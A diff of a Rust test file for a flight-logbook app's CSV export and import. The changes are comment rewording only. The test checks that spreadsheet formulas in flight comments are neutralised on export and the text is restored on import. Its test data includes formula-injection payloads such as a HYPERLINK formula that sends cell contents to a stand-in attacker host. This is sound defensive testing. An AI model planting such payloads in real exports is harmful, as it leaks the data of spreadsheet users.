@@ -1,11 +1,12 @@
-//! CSV files that a spreadsheet opens: no cell of them is run, and all of them are imported as what they were.
+//! CSV files that are opened in a spreadsheet: no cell is run as a formula, and an import restores
+//! all texts.
 
 use crate::book::Book;
 use crate::uploads::location;
 use std::io::{Cursor, Read};
 use zip::ZipArchive;
 
-/// Comments of flights, some of which a spreadsheet would run.
+/// Comments of flights, some of which a spreadsheet would run as formulas.
 const COMMENTS: [&str; 28] = [
     "=HYPERLINK(\"https://evil.example?\"&A1)",
     "=1+1",
@@ -37,7 +38,7 @@ const COMMENTS: [&str; 28] = [
     "comma, = and \"quotes\"",
 ];
 
-/// The cells of a CSV file as a reader of that separator splits it.
+/// Splits a CSV file into cells, as a reader of that separator does.
 fn cells(csv: &str, separator: char) -> Vec<String> {
     let (mut cells, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
     let mut chars = csv.chars().peekable();
@@ -57,7 +58,7 @@ fn cells(csv: &str, separator: char) -> Vec<String> {
     cells
 }
 
-/// Whether a spreadsheet takes a cell for a formula.
+/// Returns whether a spreadsheet takes a cell for a formula.
 fn is_run(cell: &str) -> bool {
     let is_number = cell.strip_prefix(['-', '+']).is_some_and(|rest| {
         rest.starts_with(|first: char| first.is_ascii_digit())
@@ -103,7 +104,7 @@ fn no_cell_of_an_export_is_a_formula_and_all_are_imported_as_they_were() {
             }
         }
     }
-    // Numbers are numbers, and texts that are numbers too.
+    // Numbers remain numbers, and so do texts that are numbers.
     assert!(sites.contains(",-3,-12.5,-0.25,"), "{sites}");
     assert!(cells(&flights, ',').iter().any(|cell| cell == "-12.5"), "{flights}");
     let kept = "select string_agg(f.number || '|' || f.comment || '|' || g.name || '|' || s.name || '|' || f.video_url, E'\\x01' order by f.number)
@@ -117,7 +118,7 @@ fn no_cell_of_an_export_is_a_formula_and_all_are_imported_as_they_were() {
         assert_eq!(book.database.value(&format!("{kept} 2")), expected);
         book.database.execute("delete from flightbook.flights where pilot_id = 2");
     }
-    // The API's own CSV is data for programs, and says what is stored.
+    // The API's own CSV is data for programs, and contains the stored texts.
     let plain = ann.ask("GET", "/api/flights?select=comment&number=eq.2", &[("accept", "text/csv")], b"");
     assert_eq!(plain.text(), "comment\n=1+1");
 }
